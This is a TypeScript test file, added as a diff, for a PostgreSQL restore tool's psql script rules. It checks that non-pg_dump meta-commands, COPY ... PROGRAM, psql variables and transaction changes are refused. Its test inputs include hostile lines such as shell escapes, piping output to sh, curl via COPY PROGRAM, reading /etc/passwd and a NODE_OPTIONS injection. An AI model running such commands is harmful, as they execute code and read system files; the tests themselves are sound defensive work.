@@ -1,0 +1,347 @@
+/**
+ * The restore's rules over psql's reading of a script: what is refused before anything runs (with
+ * the line and the command named), what pg_dump writes and passes, and the statement kinds the
+ * skip rules use. Real pg_dump and pg_dumpall output is checked against the same rules in
+ * __tests__/integration/psql-lexer-equivalence.test.ts.
+ */
+import {
+  lexPsqlScript,
+  type PsqlLexerOptions,
+  type StatementEvent
+} from '../../src/postgres/psql-lexer.js'
+import {
+  classifyStatement,
+  metaCommandKind,
+  refusal,
+  refusals,
+  transactionControl,
+  type Refusal
+} from '../../src/postgres/psql-script-rules.js'
+import { TRICKY_SCRIPTS } from '../support/psql-scripts.js'
+
+const refused = (
+  script: string,
+  options: PsqlLexerOptions = {}
+): Pick<Refusal, 'code' | 'line' | 'command'>[] =>
+  refusals(lexPsqlScript(script, options)).map(r => ({
+    code: r.code,
+    line: r.line,
+    command: r.command
+  }))
+
+const kind = (sql: string): ReturnType<typeof classifyStatement> => {
+  const s = lexPsqlScript(sql).find((e): e is StatementEvent => e.kind === 'statement')
+  if (!s) throw new Error(`no statement in ${sql}`)
+  return classifyStatement(s)
+}
+
+describe('psql script rules: meta-commands', () => {
+  it('refuses every meta-command pg_dump never writes, naming the line and the command', () => {
+    const script = [
+      'SELECT 1;',
+      '\\! touch /tmp/pwned',
+      "\\o |sh -c 'id'",
+      "\\copy t to program 'curl http://x'",
+      '\\set x `id`',
+      '\\gexec',
+      '\\i /etc/passwd',
+      'CREATE TABLE b (i int); \\setenv NODE_OPTIONS --require=/tmp/x',
+      '\\COPY t FROM stdin',
+      '\\.'
+    ].join('\n')
+    expect(refused(script)).toEqual([
+      { code: 'meta-command', line: 2, command: '\\! touch /tmp/pwned' },
+      { code: 'meta-command', line: 3, command: "\\o |sh -c 'id'" },
+      { code: 'meta-command', line: 4, command: "\\copy t to program 'curl http://x'" },
+      { code: 'meta-command', line: 5, command: '\\set x `id`' },
+      { code: 'meta-command', line: 6, command: '\\gexec' },
+      { code: 'meta-command', line: 7, command: '\\i /etc/passwd' },
+      { code: 'meta-command', line: 8, command: '\\setenv NODE_OPTIONS --require=/tmp/x' },
+      { code: 'meta-command', line: 9, command: '\\COPY t FROM stdin' }
+    ])
+    const [first] = refusals(lexPsqlScript(script))
+    expect(first.message).toMatch(
+      /^line 2: the psql meta-command "\\! touch \/tmp\/pwned" is not something pg_dump writes/
+    )
+  })
+
+  it('passes \\restrict KEY and \\unrestrict KEY as pg_dump writes them, and nothing more', () => {
+    expect(refused('\\restrict 0rYpT8aBcD\nSELECT 1;\n\\unrestrict 0rYpT8aBcD\n')).toEqual([])
+    expect(refused('\\restrict `id`\n')).toEqual([
+      { code: 'meta-command', line: 1, command: '\\restrict `id`' }
+    ])
+    expect(refused("\\restrict 'a b'\n")).toEqual([
+      { code: 'meta-command', line: 1, command: "\\restrict 'a b'" }
+    ])
+    expect(refused('\\restrict k extra\n')).toEqual([
+      { code: 'meta-command', line: 1, command: '\\restrict k extra' }
+    ])
+    expect(refused('\\restrict :KEY\n')).toEqual([
+      { code: 'meta-command', line: 1, command: '\\restrict :KEY' }
+    ])
+    // psql 15.18 evaluates a backquote in \unrestrict's argument even in restricted mode
+    expect(refused('\\restrict k\n\\unrestrict `id`\n', { psqlMajor: 15 })).toEqual([
+      { code: 'meta-command', line: 2, command: '\\unrestrict `id`' }
+    ])
+  })
+
+  it('reports \\connect as its own code for the caller to decide', () => {
+    const [r] = refusals(lexPsqlScript('\\connect -reuse-previous=on "dbname=\'shop\'"\n'))
+    expect(r).toMatchObject({
+      code: 'connect',
+      line: 1,
+      command: '\\connect -reuse-previous=on "dbname=\'shop\'"'
+    })
+    const [m] = lexPsqlScript('\\c shop\n')
+    expect(m.kind === 'metaCommand' && metaCommandKind(m)).toBe('connect')
+  })
+
+  it('refuses a meta-command hidden anywhere psql runs one: after a statement, in a COPY line’s rest, after \\\\', () => {
+    expect(
+      refused('COPY t FROM stdin; \\! id\nrow\n\\.\nSELECT 1; \\restrict k \\\\ \\! id\n').map(
+        r => [r.line, r.command]
+      )
+    ).toEqual([
+      [1, '\\! id'],
+      [4, '\\! id']
+    ])
+  })
+
+  it('finds the \\echo commands of every hostile fixture (they stand for \\!)', () => {
+    for (const t of TRICKY_SCRIPTS) {
+      const marks = (t.script.match(/MARK-\d+/g) ?? []).length
+      const seen = refusals(lexPsqlScript(t.script, { clientEncoding: t.clientEncoding })).filter(
+        r => /^\\echo .*MARK-\d+/.test(r.command)
+      ).length
+      // every MARK psql prints is a refused \echo (the quit fixture has none left after \q)
+      expect([t.name, seen]).toEqual([t.name, marks])
+    }
+  })
+})
+
+describe('psql script rules: statements', () => {
+  it('refuses COPY … PROGRAM in either direction, and binary or unclear COPY', () => {
+    expect(
+      refused(
+        "COPY t FROM PROGRAM 'id';\nCOPY t TO program 'curl x';\ncopy t from stdin with (format binary);\n\\.\nCOPY t;"
+      )
+    ).toEqual([
+      { code: 'copy-program', line: 1, command: "COPY t FROM PROGRAM 'id';" },
+      { code: 'copy-program', line: 2, command: "COPY t TO program 'curl x';" },
+      { code: 'copy-binary', line: 3, command: 'copy t from stdin with (format binary);' },
+      { code: 'copy-unclear', line: 5, command: 'COPY t;' }
+    ])
+    expect(refused('COPY public.t (a, b) FROM stdin;\n1\t2\n\\.\nCOPY t TO stdout;\n')).toEqual([])
+  })
+
+  it('refuses variables psql defines (its own are upper-case) and :{?x}, not slices like a[lo:hi]', () => {
+    expect(
+      refused(
+        "SELECT :'DBNAME';\nSELECT :USER;\nSELECT :{?x};\nSELECT a[lo:hi], (ARRAY[1,2])[1:2] FROM t;"
+      )
+    ).toEqual([
+      { code: 'variable', line: 1, command: "SELECT :'DBNAME';" },
+      { code: 'variable', line: 2, command: 'SELECT :USER;' },
+      { code: 'variable', line: 3, command: 'SELECT FALSE;' }
+    ])
+    expect(
+      refusals(lexPsqlScript('SELECT :secret;'), { definedVariables: ['secret'] })[0]?.code
+    ).toBe('variable')
+  })
+
+  it('refuses "\\;" and statements psql joins, but passes a BEGIN ATOMIC body as pg_dump writes it', () => {
+    expect(refused('SELECT 1 \\; COMMIT;')).toEqual([
+      { code: 'backslash-escape', line: 1, command: 'SELECT 1 ; COMMIT;' }
+    ])
+    expect(
+      refused(
+        'CREATE FUNCTION begin() RETURNS int LANGUAGE sql RETURN 1; COMMIT; SELECT 1 AS end;'
+      ).map(r => r.code)
+    ).toEqual(['joined-statements'])
+    // psql joins until an "end": the server would run the COPY (and COMMIT) hidden inside
+    expect(
+      refused(
+        'CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1 AS case; END; COPY t FROM stdin; END;'
+      ).map(r => r.code)
+    ).toEqual(['joined-statements'])
+    const pgDump = [
+      'CREATE FUNCTION public.f(a integer) RETURNS integer',
+      '    LANGUAGE sql',
+      '    BEGIN ATOMIC',
+      ' SELECT (f.a + 1);',
+      ' SELECT',
+      '         CASE',
+      '             WHEN (f.a > 0) THEN f.a',
+      '             ELSE 0',
+      '         END AS "case";',
+      'END;',
+      'CREATE PROCEDURE public.p()',
+      '    LANGUAGE sql',
+      '    BEGIN ATOMIC',
+      ' INSERT INTO public.t (name)',
+      "   VALUES ('p'::text);",
+      'END;',
+      ''
+    ].join('\n')
+    expect(refused(pgDump)).toEqual([])
+  })
+
+  it('classifies transaction control: refuses what ends the transaction, marks pg_dump’s own BEGIN/COMMIT droppable', () => {
+    const script = [
+      'BEGIN;',
+      "SELECT pg_catalog.lo_open('16385', 131072);",
+      'COMMIT;',
+      'begin transaction isolation level serializable;',
+      'START TRANSACTION;',
+      'END;',
+      'ROLLBACK AND CHAIN;',
+      'ABORT;',
+      "PREPARE TRANSACTION 'x';",
+      "COMMIT PREPARED 'x';",
+      "ROLLBACK PREPARED 'x';",
+      'SAVEPOINT s;',
+      'RELEASE SAVEPOINT s;',
+      'ROLLBACK TO s;',
+      'ROLLBACK TRANSACTION TO SAVEPOINT s;',
+      ''
+    ].join('\n')
+    expect(
+      refusals(lexPsqlScript(script)).map(r => [r.line, r.transaction, r.droppable ?? false])
+    ).toEqual([
+      [1, 'BEGIN', true],
+      [3, 'COMMIT', true],
+      [4, 'BEGIN', false],
+      [5, 'START TRANSACTION', false],
+      [6, 'END', false],
+      [7, 'ROLLBACK', false],
+      [8, 'ABORT', false],
+      [9, 'PREPARE TRANSACTION', false],
+      [10, 'COMMIT PREPARED', false],
+      [11, 'ROLLBACK PREPARED', false]
+    ])
+    const [savepoint] = lexPsqlScript('ROLLBACK WORK TO s;') as StatementEvent[]
+    expect(transactionControl(savepoint.parts[0])).toEqual({
+      statement: 'ROLLBACK TO',
+      endsTransaction: false
+    })
+    expect(refusals(lexPsqlScript('BEGIN;'))[0].message).toMatch(/the restore drops it/)
+  })
+
+  it('refuses changes of standard_conforming_strings and client_encoding it cannot follow, passes the ones it models', () => {
+    expect(
+      refused(
+        [
+          'SET standard_conforming_strings = off;',
+          "SET client_encoding = 'LATIN1';",
+          "SELECT set_config('Standard_Conforming_Strings', 'off', false);",
+          'SET LOCAL standard_conforming_strings TO off;',
+          'RESET ALL;',
+          "SET client_encoding TO 'SJIS';",
+          ''
+        ].join('\n')
+      ).map(r => [r.code, r.line])
+    ).toEqual([
+      ['setting', 3],
+      ['setting', 4],
+      ['setting', 5],
+      ['encoding', 6]
+    ])
+  })
+
+  it('refuses literals that depend on standard_conforming_strings only when asked (strict mode)', () => {
+    const script = "COMMENT ON TABLE t IS 'C:\\dir\\';\nSELECT 'plain';\n"
+    expect(refused(script)).toEqual([])
+    expect(
+      refusals(lexPsqlScript(script), { refuseAmbiguousLiterals: true }).map(r => [r.code, r.line])
+    ).toEqual([['ambiguous-literal', 1]])
+  })
+
+  it('refuses a statement psql 17/18 and the server would read different COPY data after', () => {
+    // (psql 18 then reads the "\\." line as a command: refused too, after the first)
+    expect(refused('COPY s.from FROM stdin;\n\\.\n', { psqlMajor: 18 }).map(r => r.code)).toEqual([
+      'copy-mismatch',
+      'meta-command'
+    ])
+    expect(refused('COPY s.from FROM stdin;\n\\.\n', { psqlMajor: 15 })).toEqual([])
+  })
+
+  it('refuses input it cannot follow and a custom-format archive', () => {
+    expect(refused('SELECT 1;\n\u0000')).toEqual([{ code: 'unsupported', line: 2, command: '' }])
+    expect(refusals(lexPsqlScript('PGDMP\u0001'))[0]).toMatchObject({
+      code: 'custom-format',
+      line: 1
+    })
+  })
+
+  it('passes what pg_dump writes around the data', () => {
+    const script = [
+      'SET statement_timeout = 0;',
+      "SET client_encoding = 'UTF8';",
+      'SET standard_conforming_strings = on;',
+      "SELECT pg_catalog.set_config('search_path', '', false);",
+      'SET check_function_bodies = false;',
+      'SET row_security = off;',
+      "SELECT pg_catalog.setval('public.s', 42, true);",
+      "SELECT pg_catalog.lo_create('16385');",
+      "COMMENT ON TABLE public.t IS 'C:\\dir\\';",
+      ''
+    ].join('\n')
+    expect(refused(script)).toEqual([])
+  })
+})
+
+describe('psql script rules: statement kinds for the skip rules', () => {
+  it.each([
+    ['CREATE EXTENSION IF NOT EXISTS citext WITH SCHEMA public;', 'extension', 'citext'],
+    ["COMMENT ON EXTENSION citext IS 'x';", 'extension', 'citext'],
+    ['ALTER EXTENSION "uuid-ossp" UPDATE;', 'extension', 'uuid-ossp'],
+    ['CREATE SCHEMA extensions;', 'schema', undefined],
+    ['ALTER TABLE public.t OWNER TO app;', 'owner', 'TABLE'],
+    ['ALTER MATERIALIZED VIEW public.v OWNER TO app;', 'owner', 'MATERIALIZED VIEW'],
+    ['ALTER FUNCTION public.f(integer) OWNER TO app;', 'owner', 'FUNCTION'],
+    ['ALTER LARGE OBJECT 16385 OWNER TO app;', 'owner', 'LARGE OBJECT'],
+    ['GRANT SELECT ON TABLE public.t TO reader;', 'privileges', undefined],
+    ['REVOKE ALL ON SCHEMA public FROM PUBLIC;', 'privileges', undefined],
+    [
+      'ALTER DEFAULT PRIVILEGES FOR ROLE app GRANT SELECT ON TABLES TO reader;',
+      'default-privileges',
+      undefined
+    ],
+    ['CREATE POLICY p ON public.t TO reader USING (true);', 'policy', undefined],
+    [
+      'CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f();',
+      'event-trigger',
+      undefined
+    ],
+    ['CREATE PUBLICATION pub FOR TABLE public.t;', 'publication', undefined],
+    ['ALTER PUBLICATION pub ADD TABLE ONLY public.t;', 'publication', undefined],
+    ['SET transaction_timeout = 0;', 'set', 'transaction_timeout'],
+    ['SET SESSION AUTHORIZATION app;', 'set', 'session_authorization'],
+    ['SET "my.custom" = 1;', 'set', 'my.custom'],
+    ['SET my.custom TO 1;', 'set', 'my.custom'],
+    ["SELECT pg_catalog.set_config('search_path', '', false);", 'set', 'set_config'],
+    ["CREATE DATABASE shop WITH TEMPLATE = template0 ENCODING = 'UTF8';", 'database', undefined],
+    ['ALTER DATABASE shop SET search_path TO public;', 'database', undefined],
+    ['CREATE ROLE app;', 'role', undefined],
+    ['ALTER ROLE app WITH LOGIN;', 'role', undefined],
+    ['COPY public.t (a) FROM stdin;', 'copy', undefined],
+    ['CREATE TABLE public."T" (a integer);', 'table', 'public."T"'],
+    ['CREATE UNLOGGED TABLE IF NOT EXISTS s.t (a integer);', 'table', 's.t'],
+    ["SELECT pg_catalog.lo_open('16385', 131072);", 'large-object', 'lo_open'],
+    ["SELECT pg_catalog.lowrite(0, '\\x00');", 'large-object', 'lowrite'],
+    ['BEGIN;', 'transaction', 'BEGIN'],
+    ['SAVEPOINT s;', 'savepoint', 'SAVEPOINT'],
+    ['CREATE VIEW v AS SELECT 1;', 'other', undefined],
+    [';', 'empty', undefined]
+  ])('%s → %s', (sql, expected, detail) => {
+    const c = kind(sql)
+    expect([c.kind, c.detail]).toEqual([expected, detail])
+  })
+})
+
+describe('psql script rules: purity', () => {
+  it('passes data, ends and statements of a clean script and refuses nothing twice', () => {
+    const events = lexPsqlScript('COPY t FROM stdin;\n\\! no\n\\.\n')
+    expect(events.map(e => refusal(e))).toEqual([undefined, undefined, undefined])
+  })
+})
